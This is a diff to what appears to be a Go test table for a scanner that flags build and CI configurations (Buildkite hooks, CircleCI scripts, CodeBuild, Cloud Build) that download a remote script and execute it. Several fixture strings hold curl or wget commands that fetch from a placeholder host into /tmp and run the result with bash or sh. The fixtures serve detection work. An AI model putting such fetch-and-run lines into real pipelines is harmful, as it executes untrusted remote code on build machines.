@@ -109,6 +109,10 @@ var registry = []Rule{
 		{"buildspec.yml", "version: 0.2\nphases:\n  build:\n    commands:\n      - make\n    finally:\n      - curl -s -o /tmp/f https://x.invalid/f\n      - bash /tmp/f", 8, false},
 		{".builds/debian.yml", "image: debian/stable\nsources:\n  - https://git.sr.ht/~x/y\ntasks:\n  - setup: |\n      curl -fsSL -o /tmp/s https://x.invalid/s\n      bash /tmp/s", 7, false},
 		{"cloudbuild.yaml", "steps:\n  - name: gcr.io/cloud-builders/gcloud\n    entrypoint: bash\n    args: ['-c', 'curl -s -o /tmp/c https://x.invalid/c && bash /tmp/c']", 4, false},
+		// A Buildkite agent's hook, and a script kept beside a pipeline,
+		// are shell scripts.
+		{".buildkite/hooks/pre-command", "#!/bin/bash\nset -euo pipefail\ncurl -fsSL -o /tmp/x.sh https://x.invalid/i\nbash /tmp/x.sh", 4, false},
+		{".circleci/scripts/setup.sh", "#!/bin/sh\nwget -qO /tmp/s https://x.invalid/s\nsh /tmp/s", 3, false},
 		// The same systems building the change: nothing fetched is run.
 		{".builds/debian.yml", "image: debian/stable\npackages:\n  - golang\nsources:\n  - https://git.sr.ht/~x/y\ntasks:\n  - build: |\n      cd y\n      go build ./...\n  - test: cd y && go test ./...", 0, true},
 		{".cirrus.yml", "task:\n  container:\n    image: rust:latest\n  cargo_cache:\n    folder: $CARGO_HOME/registry\n  build_script: cargo build\n  test_script: cargo test", 0, true},
